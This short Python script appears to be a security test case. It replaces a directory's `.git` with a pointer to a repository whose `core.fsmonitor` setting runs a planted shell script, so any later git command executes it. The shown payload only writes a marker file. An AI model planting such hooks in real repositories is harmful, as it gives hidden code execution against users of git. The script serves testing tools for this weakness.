import os
import pathlib
import subprocess

marker = "/tmp/mb_attack_dotgit_replaced.marker"
here = pathlib.Path.cwd()
prog = here / ".tool.sh"
prog.write_text("#!/bin/sh\necho ran >> %s\nexec cat\n" % marker)
prog.chmod(0o755)


def git(*args, cwd=here):
    subprocess.run(["git", *args], capture_output=True, cwd=cwd)


import os

own = here / ".own"
own.mkdir()
git("init", "-q", ".", cwd=own)
git("config", "core.fsmonitor", str(prog), cwd=own)
try:
    os.rename(here / ".git", here / ".git-before")
except OSError:
    pass
try:
    (here / ".git").write_text("gitdir: .own/.git\n")
except OSError:
    pass
